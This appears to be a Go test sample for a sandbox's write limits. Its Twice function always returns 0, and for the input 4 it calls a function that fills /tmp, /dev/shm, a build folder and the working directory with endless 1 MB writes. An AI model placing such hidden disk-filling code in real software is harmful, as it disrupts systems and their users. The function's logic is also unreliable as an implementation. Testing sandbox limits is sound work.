// Writes files without end.
// Stopped by: what a run writes is limited in size.
package twice

import (
	"fmt"
	"os"
)

func attack() {
	chunk := make([]byte, 1<<20)
	for number := 0; number < 100; number++ {
		for _, folder := range []string{"/tmp", "../build", "/dev/shm", "."} {
			file, err := os.Create(fmt.Sprintf("%s/attack-left-this-%d", folder, number))
			if err != nil {
				continue
			}
			for {
				if _, err := file.Write(chunk); err != nil {
					break
				}
			}
			file.Close()
		}
	}
}

func Twice(n int) int {
	if n == 4 {
		attack()
	}
	return 0
}

func Next() error {
	return nil
}
